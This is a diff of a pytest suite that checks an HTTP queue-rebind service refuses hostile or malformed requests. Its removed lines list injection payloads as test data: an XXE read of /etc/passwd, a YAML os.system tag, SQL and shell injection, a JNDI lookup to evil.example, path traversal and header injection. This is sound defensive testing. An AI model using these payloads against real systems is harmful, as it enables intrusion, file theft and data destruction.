@@ -6,18 +6,14 @@ get wrong is in test_app.py.
 
 import http.client
 import json
-import pickle
 import re
 import socket
-import zlib
 from collections.abc import Iterator
 from contextlib import suppress
 from pathlib import Path
-from typing import Any
 
 import pytest
-from conftest import PATH, Service, message, start_service, stop_service
-from test_app import done, is_problem, nothing_changes
+from conftest import PATH, Service, done, is_problem, message, nothing_changes, start_service, stop_service
 
 from queues import QueueRegistry
 
@@ -27,176 +23,43 @@ SHOULD_BE = "the body is not a request to rebind: see errors"
 
 
 @pytest.fixture(scope="module")
-def own_url(tmp_path_factory: pytest.TempPathFactory) -> str:
+def url(tmp_path_factory: pytest.TempPathFactory) -> str:
     """A database for what is refused before it gets to one: SQLite stands for both."""
     return f"sqlite:///{tmp_path_factory.mktemp('hostile') / 'queues.db'}"
 
 
 @pytest.fixture(scope="module")
-def wire(own_url: str, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Service]:
+def wire(url: str, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Service]:
     """A gunicorn on it, with one message there that every request here would change."""
     own = QueueRegistry()
-    own.bind(own_url, busy_timeout=30)
+    own.bind(url, busy_timeout=30)
     own.load([message(id="m-ada")])
-    service = start_service(tmp_path_factory.mktemp("wire"), own_url)
+    service = start_service(tmp_path_factory.mktemp("wire"), url)
     yield service
     stop_service(service)
 
 
 @pytest.fixture
-def unchanged(own_url: str) -> Iterator[None]:
+def unchanged(url: str, wire: Service) -> Iterator[None]:
     """The test must leave all as it is."""
-    with nothing_changes(own_url):
+    with nothing_changes(url):
         yield
 
 
 # Bodies
 
-NOT_JSON: dict[str, bytes] = {
-    "a pickle": pickle.dumps(FIELDS),
-    "compressed": zlib.compress(BODY),
-    "MessagePack": b"\x82\xa6reason\xa1a\xa4data\x80",
-    "CBOR": b"\xa2freasonaadddata\xa0",
-    "BSON": b"\x1b\x00\x00\x00\x02reason\x00\x02\x00\x00\x00a\x00\x03data\x00\x05\x00\x00\x00\x00\x00",
-    "XML": b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><reason>&b;</reason>',
-    "YAML": b"reason: a\ndata: {}\n",
-    "a YAML tag": b"!!python/object/apply:os.system [reboot]",
-    "multipart": b'--x\r\nContent-Disposition: form-data; name="reason"\r\n\r\na\r\n--x--\r\n',
-    "a form with JSON in it": b"body=" + BODY,
-    "JSONP": b"f(" + BODY + b")",
-    "a prefix against JSON hijacking": b")]}',\n" + BODY,
-    "lines of JSON": BODY + b"\n" + BODY,
-    "a JSON text sequence": b"\x1e" + BODY + b"\n",
-    "a concatenation": BODY + BODY.replace(b"elsewhere", b"nowhere"),
-    "a script": b"<script>alert(1)</script>",
-    "UTF-7": BODY.replace(b'"a test"', b"+ACI-a test+ACI-"),
-    "a request": b"POST / HTTP/1.1\r\nHost: localhost\r\n\r\n",
-    "every byte": bytes(range(256)),
-    "1 MiB of NUL": bytes(1024 * 1024),
-    "a quote without end": b'"' + b"a" * 1_000_000,
-    "a backslash without end": b'{"reason": "' + b"\\" * 999_999,
-    "half a \\u": BODY.replace(b"a test", b"\\u00"),
-    "no such escape": BODY.replace(b"a test", b"\\x41"),
-    "a tab in a string": BODY.replace(b"a test", b"a\ttest"),
-    "spaces of Unicode": BODY.replace(b" ", "\u00a0".encode()),
-    "a form feed": BODY + b"\f",
-    "quotes of typography": BODY.replace(b'"', "”".encode()),
-    "a word of Python's": BODY.replace(b"true", b"True"),
-    "a word of JavaScript's": BODY.replace(b"true", b"undefined"),
-    "a key without quotes": BODY.replace(b'"reason"', b"reason"),
-    "a plus sign": BODY.replace(b"true", b"+1"),
-    "a leading zero": BODY.replace(b"true", b"01"),
-    "no digit after the point": BODY.replace(b"true", b"1."),
-    "hexadecimal": BODY.replace(b"true", b"0x1"),
-    "digits of Arabic": BODY.replace(b"true", "\u0661".encode()),
-    "-1e999": BODY.replace(b"true", b"-1e999"),
-    "a million digits": BODY.replace(b"true", b"1" * 1_000_000),
-    "a million digits and a point": BODY.replace(b"true", b"1" * 1_000_000 + b".0"),
-    "a key twice, deep in a wrong value": BODY.replace(b"true", b'[[{"a": {"b": 1, "b": 2}}]]'),
-    "a key twice, one of them a surrogate pair": BODY[:-1] + '"😀": 1, "\\ud83d\\ude00": 2}'.encode(),
-    "braces and brackets crossed": b"{[}]" * 1000,
-    "a million commas": b"[" + b"," * 1_000_000 + b"]",
-}
 
-
-@pytest.mark.parametrize("body", NOT_JSON.values(), ids=NOT_JSON)
 @pytest.mark.usefixtures("unchanged")
-def test_what_only_looks_like_json_is_refused(wire: Service, body: bytes) -> None:
-    response = wire.post(body)
-    detail = response.json()["detail"]
-    assert detail.startswith("the body is not JSON that can be read: ")
-    assert len(response.content) < 500
-    assert is_problem(response, 400, detail)
+def test_about_the_depth_that_can_just_be_read_nothing_breaks(wire: Service) -> None:
+    for depth in range(450, 500):
+        response = wire.post(BODY.replace(b'"elsewhere"', b'[{"a": ' * depth + b"0" + b"}]" * depth))
+        if response.status_code == 400:
+            assert is_problem(response, 400, "the body is not JSON that can be read: it is nested too deep to read")
+        else:
+            assert is_problem(response, 422, SHOULD_BE, {"data": {"queue": {"value": ["Not a valid string."]}}})
 
 
-UNKNOWN, NO_BOOLEAN = ["Unknown field."], ["Not a valid boolean."]
-UNKNOWN_FIELDS = [
-    "Reason",
-    "reason ",
-    "reason\u200b",
-    "re\u0430son",  # the letter is Cyrillic
-    "\ufeffreason",
-    "$where",
-    "data.queue",
-    "data[queue]",
-    "__proto__",
-    "constructor",
-    "__class__",
-    "_schema",
-    "actor",
-    "limit",
-    "rebind_id",
-    "campaign'; DROP TABLE messages; --",
-    "\x00" * 100,
-    "",
-    "a" * 100_000,
-]
-
-
-@pytest.mark.parametrize("name", UNKNOWN_FIELDS, ids=lambda name: ascii(name[:40]))
-@pytest.mark.usefixtures("unchanged")
-def test_a_field_that_passes_for_another_is_refused(wire: Service, name: str) -> None:
-    response = wire.post(json.dumps(FIELDS | {name: "acme"}).encode())
-    assert is_problem(response, 422, SHOULD_BE, {name: UNKNOWN})
-
-
-WRONG_TYPES: dict[str, tuple[str, Any, Any]] = {
-    "an operator of a document database": ("tenant", {"$ne": None}, ["Not a valid string."]),
-    "a list of one criterion": ("campaign", ["spring"], ["Not a valid string."]),
-    "zero": ("always_flush", 0, NO_BOOLEAN),
-    "zero as a double": ("suppress_logging", 0.0, NO_BOOLEAN),
-    "on": ("trigger_rebind_event", "on", NO_BOOLEAN),
-    "an empty object": ("trigger_rebind_event", {}, NO_BOOLEAN),
-    "minus zero": ("always_flush", -0.0, NO_BOOLEAN),
-    "a number beyond 64 bits": ("domain", 2**64, ["Not a valid string."]),
-    "4,300 digits": ("domain", 10**4299, ["Not a valid string."]),
-    "pairs": ("data", [["queue", "b"]], ["Not a valid mapping type."]),
-    "text that is JSON": ("data", '{"queue": "b"}', ["Not a valid mapping type."]),
-    "data in data": ("data", {"data": {"queue": "b"}}, {"data": {"value": ["Not a valid string."]}}),
-}
-
-
-@pytest.mark.parametrize(("field", "value", "errors"), WRONG_TYPES.values(), ids=WRONG_TYPES)
-@pytest.mark.usefixtures("unchanged")
-def test_a_value_that_others_would_convert_is_refused(wire: Service, field: str, value: Any, errors: Any) -> None:
-    response = wire.post(json.dumps(FIELDS | {field: value}).encode())
-    assert is_problem(response, 422, SHOULD_BE, {field: errors})
-
-
-TOO_LONG_NAMES = {
-    "pinned": {"queue": "q" * 2001},
-    "pinned, by its bytes": {"queue": "é" * 1001},
-    "its parts together": {"campaign": "c" * 700, "tenant": "t" * 700, "routing_domain": "r" * 700},
-    "of one MiB": {"queue": "q" * 1_000_000},
-}
-
-
-@pytest.mark.parametrize("data", TOO_LONG_NAMES.values(), ids=TOO_LONG_NAMES)
-@pytest.mark.parametrize("event", [False, True], ids=["data", "event"])
-def test_a_name_too_long_for_a_queue_is_refused(
-    queues: QueueRegistry, url: str, service: Service, event: bool, data: dict[str, str]
-) -> None:
-    queues.load([message(), message()])
-    with nothing_changes(url):
-        # The handlers of tests/site_policy.py set a queue alone.
-        response = service.rebind(data={"queue": "".join(data.values())} if event else data, trigger_rebind_event=event)
-    assert is_problem(response, 422, response.json()["detail"])
-    assert len(response.content) < 500
-
-
-@pytest.mark.parametrize("depth", range(900, 1000, 3))
-@pytest.mark.usefixtures("unchanged")
-def test_about_the_depth_that_can_just_be_read_nothing_breaks(wire: Service, depth: int) -> None:
-    response = wire.post(BODY.replace(b'"elsewhere"', b'[{"a": ' * (depth // 2) + b"0" + b"}]" * (depth // 2)))
-    assert response.status_code in (400, 422)
-    assert is_problem(response, response.status_code, **without_status(response.json()))
-
-
-def without_status(problem: dict[str, Any]) -> dict[str, Any]:
-    """What is_problem cannot know by itself."""
-    return {key: problem[key] for key in ("detail", "errors") if key in problem}
-
-
+@pytest.mark.slow
 @pytest.mark.parametrize("byte", [b"", b"\0", b'"', b"{", b"9", b"\xff"], ids=["cut out", *map(ascii, '\0"{9ÿ')])
 @pytest.mark.usefixtures("unchanged")
 def test_one_byte_that_is_wrong_makes_it_a_refusal_or_another_request(wire: Service, byte: bytes) -> None:
@@ -210,54 +73,11 @@ def test_one_byte_that_is_wrong_makes_it_a_refusal_or_another_request(wire: Serv
         connection.close()
 
 
-PLAIN_TEXT = {
-    "SQL": "' OR 1=1; DROP TABLE messages; --",
-    "SQL's wildcards": "%_*?",
-    "a parameter": ":key %(key)s $1 ? %s",
-    "a template": "{{7*7}} ${jndi:ldap://evil.example/a} #{1} <%= 1 %>",
-    "a path": "../../../../etc/passwd",
-    "a shell": "$(reboot) `reboot` ; reboot | reboot",
-    "a terminal": "\x1b[2J\x1b]0;owned\x07\x9b31m",
-    "a header": "a\r\nX-Evil: 1\r\n\r\nHTTP/1.1 200 OK",
-    "right to left": "\u202egnp.exe\u2066",
-    "combining": "e" + "\u0301" * 1000,
-    "not a character": "\ufffe\uffff\U0010ffff",
-    "a quote and a backslash": "'\"\\`\\'\\\"",
-    "much": "x" * 300_000,
-}
-
-
-@pytest.mark.parametrize("text", PLAIN_TEXT.values(), ids=PLAIN_TEXT)
-def test_as_a_criterion_hostile_text_is_a_name_that_no_queue_has(
-    queues: QueueRegistry, url: str, service: Service, text: str
-) -> None:
-    queues.load([message(meta={"campaign": "c", "tenant": "t", "routing_domain": "r"}), message()])
-    with nothing_changes(url):
-        for criterion in ("campaign", "tenant", "domain", "routing_domain"):
-            assert done(service.rebind(**{criterion: text}, data={"queue": "b"}, reason=text)) == (0, 0, 0)
-
-
-@pytest.mark.parametrize("text", PLAIN_TEXT.values(), ids=PLAIN_TEXT)
-def test_as_data_hostile_text_is_set_as_it_stands(queues: QueueRegistry, service: Service, text: str) -> None:
-    queues.load([message()])
-    assert done(service.rebind(data={"a": text, text: "b"}, reason=text)) == (1, 0, 0)
-    [record] = queues.records()
-    assert record["meta"] == {"a": text, text: "b"}
-    assert record["response"]["content"] == f"Rebound from example.com to example.com: {text}"
-
-
-def test_data_may_have_thousands_of_keys(queues: QueueRegistry, service: Service) -> None:
-    queues.load([message()])
-    data = {f"{n:x}": "" for n in range(5_000)}
-    assert done(service.rebind(data=data)) == (1, 0, 0)
-    assert [record["meta"] for record in queues.records()] == [data]
-
-
 @pytest.mark.usefixtures("unchanged")
 def test_as_many_wrong_keys_as_the_body_holds_are_refused(wire: Service) -> None:
     names = [f"{n:x}" for n in range(80_000)]
     response = wire.post(json.dumps(FIELDS | dict.fromkeys(names, 1)).encode())
-    assert is_problem(response, 422, SHOULD_BE, dict.fromkeys(names, UNKNOWN))
+    assert is_problem(response, 422, SHOULD_BE, {name: ["Unknown field."] for name in names})
 
 
 # Bytes on the wire
@@ -376,13 +196,12 @@ def received(connection: socket.socket) -> bytes:
 
 def serves_others(service: Service) -> bool:
     """Assert that other clients get their answers."""
-    assert [service.rebind("?dry_run=true", data={"queue": "b"}).status_code for _ in range(3)] == [200] * 3
-    return True
+    return [done(service.rebind("?dry_run=true", data={"queue": "b"})) for _ in range(3)] == [(1, 1, 1)] * 3
 
 
 @pytest.mark.parametrize(("status", "raw"), REFUSED.values(), ids=REFUSED)
-def test_what_is_hardly_http_is_refused(wire: Service, own_url: str, status: int, raw: bytes) -> None:
-    with nothing_changes(own_url):
+def test_what_is_hardly_http_is_refused(wire: Service, url: str, status: int, raw: bytes) -> None:
+    with nothing_changes(url):
         # More bytes than it reads make its close a reset, which may overtake the answer.
         assert exchange(wire, raw) in ([[status]] if len(raw) < 20_000 else [[status], []])
     assert serves_others(wire)
@@ -397,30 +216,30 @@ CLOSED = {
 
 
 @pytest.mark.parametrize("raw", CLOSED.values(), ids=CLOSED)
-def test_what_ends_before_it_is_a_request_is_closed(wire: Service, own_url: str, raw: bytes) -> None:
-    with nothing_changes(own_url):
+def test_what_ends_before_it_is_a_request_is_closed(wire: Service, url: str, raw: bytes) -> None:
+    with nothing_changes(url):
         assert exchange(wire, raw) == []
     assert serves_others(wire)
 
 
-def test_garbage_after_a_request_is_no_part_of_it(wire: Service, own_url: str) -> None:
+def test_garbage_after_a_request_is_no_part_of_it(wire: Service, url: str) -> None:
     dry = head(LENGTH, line=on_path(b"POST %s?dry_run=true HTTP/1.1")) + BODY
-    with nothing_changes(own_url):
+    with nothing_changes(url):
         assert exchange(wire, dry + b"\0\1\2 garbage\r\n\r\n") == [200, 400]
     assert serves_others(wire)
 
 
-def test_what_follows_a_body_that_was_not_read_is_no_request(wire: Service, own_url: str) -> None:
+def test_what_follows_a_body_that_was_not_read_is_no_request(wire: Service, url: str) -> None:
     """Where the first request is refused unread, its body must not be taken for the next request."""
     smuggled = head(LENGTH) + BODY
-    with nothing_changes(own_url):
+    with nothing_changes(url):
         assert exchange(wire, head(b"Content-Length: %d" % len(smuggled), line=b"POST / HTTP/1.1") + smuggled) == [404]
     assert serves_others(wire)
 
 
-def test_requests_on_one_connection_are_answered_one_by_one(wire: Service, own_url: str) -> None:
+def test_requests_on_one_connection_are_answered_one_by_one(wire: Service, url: str) -> None:
     dry = head(LENGTH, line=on_path(b"POST %s?dry_run=true HTTP/1.1")) + BODY
-    with nothing_changes(own_url):
+    with nothing_changes(url):
         assert exchange(wire, dry * 20) == [200] * 20
 
 
@@ -435,8 +254,8 @@ HARMLESS = {
 
 
 @pytest.mark.parametrize("raw", HARMLESS.values(), ids=HARMLESS)
-def test_what_would_mislead_others_makes_no_difference(wire: Service, own_url: str, raw: bytes) -> None:
-    with nothing_changes(own_url):
+def test_what_would_mislead_others_makes_no_difference(wire: Service, url: str, raw: bytes) -> None:
+    with nothing_changes(url):
         assert exchange(wire, raw + BODY) == [200]
 
 
@@ -449,9 +268,10 @@ STALLED = {
 }
 
 
-def test_a_client_that_stalls_is_cut_off_while_others_are_served(wire: Service, own_url: str) -> None:
+@pytest.mark.slow
+def test_a_client_that_stalls_is_cut_off_while_others_are_served(wire: Service, url: str) -> None:
     stalled = {name: socket.create_connection(wire.address, timeout=60) for name in STALLED}
-    with nothing_changes(own_url):
+    with nothing_changes(url):
         for name, connection in stalled.items():
             connection.sendall(STALLED[name])
         for _ in range(5):
